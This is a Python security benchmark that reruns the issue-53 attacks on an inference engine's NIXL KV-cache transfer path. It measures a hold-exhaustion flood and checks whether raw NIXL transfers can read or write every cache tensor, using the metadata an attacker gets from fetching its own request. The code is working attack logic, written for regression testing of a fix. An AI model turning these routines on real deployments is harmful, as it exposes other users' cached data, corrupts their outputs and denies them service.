"""The hardening round-5 attack on the NIXL KV path, run again (issue 53; docs/security-kv.md reports its numbers).

    python -m moelink.benchmarks.kv_attack                       # the built-in model, in this process
    python -m moelink.benchmarks.kv_attack --out benchmarks/results/kv_attack_round5_cpu.json

Three findings, each measured on a prefill engine (`LLM` with the NIXL connector, as `moelink serve --role prefill`
runs it), side by side with the bounds off where that is the "before":

1. hold exhaustion: one client (its own `Request.client`) keeps 4 prompts in flight that ask for the handoff and
   never fetches them; another client's 7-token requests are timed one at a time beside it (wall seconds to their
   last token), against the same flood of plain requests (the same compute, nothing held). Printed: their p50 and
   the ratio, the blocks the flood holds at the end, and the holds released unread. `--compare-unbounded` runs the
   same with the hold bounds off (fractions 1.0, the engine before issue 53, but with `--unbounded-hold-s` instead
   of 480 s so that the run ends).
2. reads: the attacker fetches its own saved request with its own capability, without the deployment secret (the
   round-5 set-up) and with it (a deployment member that misbehaves), and tries a NIXL READ of every cache tensor
   with what the reply gave it, during the fetch and after a later user's request. Printed: bytes of the cache
   readable (before issue 53: all of it).
3. writes: the same fetch's WRITE into every cache tensor, and into what it was given; then a later user sharing
   the system prompt: the largest difference of its greedy logprobs from an engine nobody attacked.
"""
from __future__ import annotations

import argparse
import base64
import platform
import socket
import statistics
import time
from dataclasses import replace
from datetime import datetime, timezone
from pathlib import Path

import torch

from moelink.engine import LLM, SamplingParams
from moelink.engine.api.provenance import git_commit, write_result
from moelink.engine.contract.kv_transfer_params import KVTransferParams
from moelink.engine.core.outputs import OutputKind
from moelink.engine.kv_transfer.auth import SecretAuth
from moelink.engine.kv_transfer.client import request_kv
from moelink.engine.kv_transfer.remote import RemoteKVConfig, RemoteKVConnector
from moelink.engine.kv_transfer.wire import Deadline, send_header

ROOT = Path(__file__).resolve().parents[1]
SECRET = b"moelink-kv-attack-secret-0123456"
ATTACKER, VICTIM = ("10.0.0.66",), ("10.0.0.2",)


def raw_transfer(agent, remote: str, op: str, local: torch.Tensor, addr: int, n: int) -> str:
    """One NIXL transfer of `n` bytes at `addr` of agent `remote`, posted as an attacker holding its metadata
    would: 'refused' (NIXL found no registration of `remote` covering those bytes), else the transfer's end state
    ('DONE' when the bytes moved)."""
    ag = agent._live()
    try:
        handle = ag.initialize_xfer(op, ag.get_xfer_descs([(local.data_ptr(), n, 0)], "DRAM"),
                                    ag.get_xfer_descs([(addr, n, 0)], "DRAM"), remote)
    except Exception:  # nixlNotFoundError
        return "refused"
    try:
        state = ag.transfer(handle)
        deadline = time.monotonic() + 10
        while state in ("PROC", "INIT") and time.monotonic() < deadline:
            state = ag.check_xfer_state(handle)
            time.sleep(0.001)
        return state
    finally:
        handle.release()


def own_fetch(llm, out, prompt, secret) -> tuple[socket.socket, dict]:
    """The attacker's fetch of its own saved request, as any KV client makes it: the reply header, the socket open
    (the prefill rank keeps what it registered for the fetch until "read" or the socket closes)."""
    p = out.kv_transfer_params
    sock = socket.create_connection(("127.0.0.1", p.remote_port), timeout=10)
    reply = request_kv(sock, "attack", p.remote_kv_token, llm.engine.executor.runner.plugin("kv_transfer").kv_blocks.layout, prompt,
                       Deadline(20.0, "attack"), 5.0, SecretAuth(secret), max_blocks=1 << 14)
    if reply.get("ok") is not True:
        sock.close()
        raise RuntimeError(f"the attacker's own fetch was refused: {reply.get('error')}")
    return sock, reply


def cache_tensors(llm) -> list[torch.Tensor]:
    """The rank's paged cache tensors, each once."""
    from moelink.engine.kv_transfer.nixl_inplace import cache_tensors as unique

    return unique(llm.engine.executor.runner.plugin("kv_transfer").kv_blocks)


def _engine(model: str, secret, fraction: float, client_fraction: float, hold_s: float, blocks: int) -> LLM:
    for attempt in range(3):
        conn = RemoteKVConnector(RemoteKVConfig(port=_free_port(), transport="nixl", secret=secret,
                                                nixl_hold_s=hold_s, nixl_hold_fraction=fraction,
                                                nixl_hold_client_fraction=client_fraction))
        try:
            return LLM(model, kv_connector=conn, dtype="float32", num_kv_blocks=blocks, block_size=16,
                       max_num_batched_tokens=1024, max_model_len=1024, skip_warmup=True)
        except OSError as exc:  # the free port was taken between its pick and the KV server's bind: pick again
            if "Address already in use" not in str(exc) or attempt == 2:
                raise
    raise AssertionError("unreachable")


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def _add(llm, rid: str, prompt, params, client) -> None:
    processed = replace(llm.engine.process_inputs(rid, prompt, params), client=client)
    llm.engine.add_processed(processed, OutputKind.FINAL_ONLY)


def _drain(llm, limit_s: float) -> None:
    deadline = time.monotonic() + limit_s
    while llm.engine.has_requests():
        if time.monotonic() > deadline:
            raise TimeoutError("the engine did not go idle")
        llm.engine.step()
        if not llm.engine.has_unfinished_requests():
            time.sleep(0.005)  # only held saves left: what a serving loop does while idle


def _victims_beside_flood(llm, vprompts, fprompts, flood_params, in_flight: int, limit_s: float) -> list[float]:
    """Each victim request alone (wall seconds from its add to its last token) while the attacker keeps `in_flight`
    flood requests going (closed loop: a new one as one finishes), as round 5's client did 4 at a time; the first
    victim comes once the attacker has sent every prompt of `fprompts` (round 5: the pool drained in ~50 s, then
    others stalled)."""
    greedy = SamplingParams(temperature=0.0, max_tokens=8, ignore_eos=True)
    flood, k, out = set(), 0, []
    deadline = time.perf_counter() + limit_s
    while k < len(fprompts) or flood:  # the lead: the attacker alone
        while len(flood) < in_flight and k < len(fprompts):
            fid = f"flood-{time.monotonic_ns()}-{k}"
            _add(llm, fid, fprompts[k], flood_params, ATTACKER)
            flood.add(fid)
            k += 1
        for o in llm.engine.step():
            if o.finished:
                flood.discard(o.request_id)
        if time.perf_counter() > deadline:
            break  # (unbounded holds: the last flood requests wait for blocks; the victims come anyway)
    for i, p in enumerate(vprompts):
        rid = f"victim-{time.monotonic_ns()}-{i}"
        t0 = time.perf_counter()
        _add(llm, rid, p, greedy, VICTIM)
        done = False
        while not done:
            while len(flood) < in_flight:
                fid = f"flood-{time.monotonic_ns()}-{k}"
                _add(llm, fid, fprompts[k % len(fprompts)], flood_params, ATTACKER)
                flood.add(fid)
                k += 1
            for o in llm.engine.step():
                if o.finished:
                    done = done or o.request_id == rid
                    flood.discard(o.request_id)
            if time.perf_counter() - t0 > limit_s:
                raise TimeoutError("a victim request did not finish")
        out.append(time.perf_counter() - t0)
    llm.engine.abort_requests(list(flood))
    return out


def hold_exhaustion(model: str, flood: int, flood_len: int, victims: int, bounded: bool, hold_s: float,
                    blocks: int, in_flight: int = 4) -> dict:
    """Finding 1 (module docstring): the victims' seconds beside a flood that asks for the handoff and never
    fetches, against the same flood of plain requests (the same compute, no holds)."""
    g = torch.Generator().manual_seed(5)
    vprompts = [torch.randint(100, 1000, (7,), generator=g).tolist() for _ in range(victims)]
    fprompts = [torch.randint(100, 1000, (flood_len,), generator=g).tolist() for _ in range(flood)]
    save = SamplingParams(temperature=0.0, max_tokens=1, ignore_eos=True,
                          kv_transfer_params=KVTransferParams(do_remote_decode=True))
    plain = SamplingParams(temperature=0.0, max_tokens=1, ignore_eos=True)
    frac, client = (0.25, 0.0625) if bounded else (1.0, 1.0)
    with _engine(model, None, frac, client, hold_s, blocks) as llm:
        _victims_beside_flood(llm, vprompts[:2], fprompts, plain, in_flight, 120.0)  # warm-up
        base = _victims_beside_flood(llm, vprompts, fprompts, plain, in_flight, 120.0)
        t0 = time.perf_counter()
        attacked = _victims_beside_flood(llm, vprompts, fprompts, save, in_flight, 10 * hold_s + 120.0)
        attack_s = time.perf_counter() - t0
        stats = llm.engine.stats()
    p50_base, p50_attacked = statistics.median(base), statistics.median(attacked)
    return {"bounded": bounded, "hold_fraction": frac, "hold_client_fraction": client, "hold_s": hold_s,
            "flood_in_flight": in_flight, "flood_prompt_tokens": flood_len, "kv_blocks": stats.num_total_blocks,
            "attack_s": round(attack_s, 3), "held_blocks_at_end": stats.kv_transfer.held_blocks,
            "holds_released_unread": stats.kv_transfer.holds_unread,
            "victim_p50_s_plain_flood": round(p50_base, 4), "victim_p50_s_holding_flood": round(p50_attacked, 4),
            "p50_ratio": round(p50_attacked / p50_base, 2), "victim_max_s_holding_flood": round(max(attacked), 3)}


def reads_and_writes(model: str, secret, blocks: int) -> dict:
    """Findings 2 and 3 (module docstring), with or without the deployment secret."""
    from moelink.engine.kv_transfer.nixl import NixlAgent

    system = list(range(200, 251))  # 51 tokens: the round-5 shared system prompt's length
    victim, attacker, later = system + [7, 8, 9, 10], system + [300, 301], system + [400, 401, 402]
    save = SamplingParams(temperature=0.0, max_tokens=1, ignore_eos=True,
                          kv_transfer_params=KVTransferParams(do_remote_decode=True))
    probe = SamplingParams(temperature=0.0, max_tokens=8, ignore_eos=True, logprobs=1)
    with LLM(model, dtype="float32", num_kv_blocks=blocks, block_size=16, max_model_len=1024,
             skip_warmup=True) as ref:
        # The victim first, as in the attacked engine: the later user's prompt then hits the same cached prefix and
        # runs the same chunk, so an untouched cache gives its logprobs bit for bit (a cold prefill computes the
        # same values through other kernels and can differ in the last bits).
        ref.generate([victim], SamplingParams(temperature=0.0, max_tokens=1, ignore_eos=True), use_tqdm=False)
        want = ref.generate([later], probe, use_tqdm=False)[0].outputs[0]
    agent = NixlAgent(progress_thread=False)
    result = {"secret": secret is not None}
    try:
        with _engine(model, secret, 0.25, 0.0625, 480.0, blocks) as llm:
            llm.generate([victim], save, use_tqdm=False)
            (mine,) = llm.generate([attacker], save, use_tqdm=False)
            cache = cache_tensors(llm)
            before = [x.clone() for x in cache]
            cache_bytes = sum(x.numel() * x.element_size() for x in cache)
            sock, reply = own_fetch(llm, mine, attacker, secret)
            nixl = reply.get("nixl")
            result["reply_has_nixl_metadata"] = nixl is not None
            readable = writable = 0
            buf = torch.zeros(max(x.numel() * x.element_size() for x in cache), dtype=torch.uint8)
            if nixl is not None:
                remote = nixl["agent"]
                agent.load_remote(remote, base64.b64decode(nixl["meta"]))
                agent.register([(buf.data_ptr(), buf.numel(), 0, "")], "DRAM")
                for x in cache:
                    n = x.numel() * x.element_size()
                    readable += n if raw_transfer(agent, remote, "READ", buf, x.data_ptr(), n) == "DONE" else 0
                    writable += n if raw_transfer(agent, remote, "WRITE", buf, x.data_ptr(), n) == "DONE" else 0
                _, ((base, _, row), *_) = nixl["tensors"][0]
                buf.fill_(0x5A)
                result["write_into_its_own_copy"] = raw_transfer(agent, remote, "WRITE", buf, base, row)
            send_header(sock, {"read": True}, Deadline(5.0, "attack"))
            sock.recv(1)
            sock.close()
            changed = not all(torch.equal(a, b) for a, b in zip(cache, before))  # before the later user writes
            got = llm.generate([later], probe, use_tqdm=False)[0].outputs[0]
            stale = 0
            if nixl is not None:  # the stale metadata, no new fetch, after the later user's request
                for x in cache:
                    n = x.numel() * x.element_size()
                    stale += n if raw_transfer(agent, remote, "READ", buf, x.data_ptr(), n) == "DONE" else 0
            diff = _logprob_diff(got, want)
            result.update(cache_bytes=cache_bytes, cache_bytes_readable=readable, cache_bytes_writable=writable,
                          cache_bytes_readable_stale=stale,
                          cache_changed=changed,
                          later_user_tokens_equal=list(got.token_ids) == list(want.token_ids),
                          later_user_max_logprob_diff=round(diff, 6))
    finally:
        agent.close()
    return result


def _logprob_diff(got, want) -> float:
    """Largest |difference| of the sampled tokens' logprobs (CompletionOutput.logprobs: per position, token ->
    Logprob), position by position while both sampled the same token (inf once they part)."""
    diffs = []
    for a, b, ta, tb in zip(got.logprobs, want.logprobs, got.token_ids, want.token_ids):
        if ta != tb:
            return float("inf")
        diffs.append(abs(a[ta].logprob - b[tb].logprob))
    return max(diffs) if diffs else 0.0


def main(argv=None) -> dict:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--model", default=str(ROOT / "builtin-model"))
    ap.add_argument("--flood", type=int, default=40, help="distinct prompts the attacker cycles through")
    ap.add_argument("--flood-len", type=int, default=500, help="tokens per flood prompt")
    ap.add_argument("--victims", type=int, default=20, help="short requests timed beside each flood")
    ap.add_argument("--kv-blocks", type=int, default=1024, help="the engine's KV blocks (16 tokens each)")
    ap.add_argument("--compare-unbounded", action="store_true",
                    help="also run the flood with the hold bounds off (the engine before issue 53)")
    ap.add_argument("--unbounded-hold-s", type=float, default=20.0, help="hold deadline of the unbounded run")
    ap.add_argument("--out", default=None, help="write the result JSON here")
    args = ap.parse_args(argv)
    torch.set_num_threads(1)
    runs = [hold_exhaustion(args.model, args.flood, args.flood_len, args.victims, True, 480.0, args.kv_blocks)]
    if args.compare_unbounded:
        runs.append(hold_exhaustion(args.model, args.flood, args.flood_len, args.victims, False,
                                    args.unbounded_hold_s, args.kv_blocks))
    for r in runs:
        print(f"hold exhaustion ({'bounded' if r['bounded'] else 'unbounded'}): victims' p50 "
              f"{r['victim_p50_s_plain_flood'] * 1000:.1f} ms beside a plain flood -> "
              f"{r['victim_p50_s_holding_flood'] * 1000:.1f} ms beside a holding one ({r['p50_ratio']}x, max "
              f"{r['victim_max_s_holding_flood']:.2f} s); it holds {r['held_blocks_at_end']} of {r['kv_blocks']} "
              f"blocks at the end; {r['holds_released_unread']} holds released unread")
    access = [reads_and_writes(args.model, None, args.kv_blocks), reads_and_writes(args.model, SECRET, args.kv_blocks)]
    for r in access:
        print(f"reads/writes ({'with' if r['secret'] else 'without'} the secret): NIXL metadata in the reply: "
              f"{r['reply_has_nixl_metadata']}; cache bytes readable {r.get('cache_bytes_readable')} / writable "
              f"{r.get('cache_bytes_writable')} / readable with stale metadata {r.get('cache_bytes_readable_stale')} "
              f"of {r.get('cache_bytes')}; cache changed: {r.get('cache_changed')}; later user's max logprob "
              f"difference {r.get('later_user_max_logprob_diff')}")
    result = {"benchmark": "kv_attack", "issue": 53, "device": "cpu", "machine": platform.machine(),
              "date": datetime.now(timezone.utc).date().isoformat(), "commit": git_commit(),
              "hold_exhaustion": runs, "reads_and_writes": access}
    if args.out:
        print("wrote", write_result(args.out, result))
    return result


if __name__ == "__main__":
    main()
